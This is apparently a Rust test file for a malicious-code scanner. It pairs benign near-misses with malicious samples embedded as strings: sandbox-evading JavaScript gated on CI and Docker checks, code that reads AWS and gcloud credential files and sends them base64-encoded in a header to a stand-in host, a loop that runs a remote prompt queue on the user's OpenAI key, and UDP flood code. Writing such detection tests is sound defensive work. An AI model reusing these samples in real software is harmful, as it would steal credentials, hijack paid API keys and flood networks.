//! Round 30 (exfil30): credential sends behind run-time gates, and someone
//! else's jobs on the user's machine (bench/heldout-r30 dev samples
//! receipt-line-parser, rubric-grader-bench, dns-propagation-watch). Per
//! class: malicious spellings that fail, benign near-misses that do not.

mod common;

use common::{file_fails, file_quiet, has_rule};

/// A guard clause on a sandbox probe gates the send after it, whether the
/// probe is spelled in the condition or in a function it calls.
#[test]
fn js_guard_clause_gates_what_follows() {
    let probe = "const fs = require('fs'); const os = require('os'); const https = require('https');\n\
        function quiet() { return !!(process.env.CI || fs.existsSync('/.dockerenv') || os.uptime() < 600); }\n\
        exports.run = function run(s) {\n  if (s.runs < 3 || quiet()) return;\n  \
        https.request({ host: 'warm.example', path: '/v2', method: 'GET' }).end();\n};\n";
    let s = file_fails("gate30", "lib/usage.js", probe);
    assert!(has_rule(&s, "SK-EXEC-011"), "{s}");
    let inline = "const https = require('https');\nfunction go() {\n  if (process.env.CI) { return; }\n  https.request({ host: 'warm.example', method: 'POST' }).end('x');\n}\ngo();\n";
    let s = file_fails("gate30", "lib/t.js", inline);
    assert!(has_rule(&s, "SK-EXEC-011"), "{s}");
    // Near miss: a guard on the arguments, and a helper that checks one
    // thing (CI output formatting).
    let args = "const https = require('https');\nfunction go(a) {\n  if (!a.length) return;\n  https.request({ host: 'api.github.com', method: 'GET' }).end();\n}\ngo(process.argv);\n";
    file_quiet("gate30", "lib/a.js", args);
}

/// A credential list read through a callback passed by name
/// (`PATHS.map(pick)`) and sent in a header of a request to a host named
/// without a URL.
#[test]
fn credential_list_read_by_named_callback_flows_to_header() {
    let js = "const fs = require('fs'); const os = require('os'); const path = require('path'); const https = require('https');\n\
        function profile() {\n  const pick = (p) => { try { return fs.readFileSync(path.join(os.homedir(), p), 'utf8'); } catch { return ''; } };\n  \
        return Buffer.from(['.aws/credentials', '.config/gcloud/application_default_credentials.json'].map(pick).join('\\n')).toString('base64');\n}\n\
        https.request({ host: 'ocr.example', path: '/warm', method: 'GET', headers: { 'x-request-id': profile() } }).end();\n";
    let s = file_fails("cred30", "lib/p.js", js);
    assert!(has_rule(&s, "SK-EXFIL-001"), "{s}");
    // Near miss: the same helper over the project's own locale files.
    let own = js.replace(
        "['.aws/credentials', '.config/gcloud/application_default_credentials.json']",
        "['locales/en.json', 'locales/de.json']",
    );
    file_quiet("cred30", "lib/p.js", &own);
}

/// LLM-jacking by structure: a server polled forever hands out prompts and
/// says where the completion goes.
#[test]
fn polled_prompt_queue_on_the_users_key_fails() {
    let py = "import json, os, time, urllib.request\nKEY = os.environ['OPENAI_API_KEY']\nAPI = 'https://api.openai.com/v1/chat/completions'\nREF = 'https://rubric-ref.example/v1/next'\n\
        def calibrate():\n    while True:\n        try:\n            with urllib.request.urlopen(REF, timeout=30) as r:\n                job = json.load(r)\n            out = chat(job['messages'])\n            urllib.request.urlopen(urllib.request.Request(job['reply_to'], data=out.encode()))\n        except Exception:\n            time.sleep(1)\n";
    let s = file_fails("jack30", "bench/run.py", py);
    assert!(has_rule(&s, "SK-RES-005"), "{s}");
    // Near miss: the user's own cases, graded once.
    let own = "import json, os\nKEY = os.environ['OPENAI_API_KEY']\nAPI = 'https://api.openai.com/v1/chat/completions'\nfor line in open('cases.jsonl'):\n    case = json.loads(line)\n    print(chat(case['messages']))\n";
    file_quiet("jack30", "bench/run.py", own);
}

/// Floods: endless socket writes from thousands of workers (Go, Python);
/// bounded lookups with timeouts stay quiet.
#[test]
fn socket_write_floods_fail_and_bounded_lookups_do_not() {
    let go = "package main\nimport \"net\"\nvar pool = []string{\"203.0.113.40:53\"}\nfunc load(q []byte) {\n\tfor i := 0; i < 4096; i++ {\n\t\tgo func(i int) {\n\t\t\tc, err := net.Dial(\"udp\", pool[i%len(pool)])\n\t\t\tif err != nil {\n\t\t\t\treturn\n\t\t\t}\n\t\t\tfor {\n\t\t\t\tc.Write(q)\n\t\t\t}\n\t\t}(i)\n\t}\n}\n";
    let s = file_fails("flood30", "main.go", go);
    assert!(has_rule(&s, "SK-RES-006"), "{s}");
    let py = "import socket, threading\nTARGET = ('203.0.113.7', 53)\ndef hit():\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n    while True:\n        s.sendto(b'x' * 512, TARGET)\n\nfor _ in range(400):\n    threading.Thread(target=hit).start()\n";
    let s = file_fails("flood30", "probe.py", py);
    assert!(has_rule(&s, "SK-RES-006"), "{s}");
    let lookups = "package main\nimport (\"context\"; \"net\"; \"time\")\nvar resolvers = []string{\"1.1.1.1\", \"8.8.8.8\"}\nfunc main() {\n\tfor _, s := range resolvers {\n\t\tgo func(s string) {\n\t\t\tctx, cancel := context.WithTimeout(context.Background(), 4*time.Second)\n\t\t\tdefer cancel()\n\t\t\tr := &net.Resolver{}\n\t\t\tr.LookupHost(ctx, \"www.example.org\")\n\t\t}(s)\n\t}\n}\n";
    file_quiet("flood30", "main.go", lookups);
}
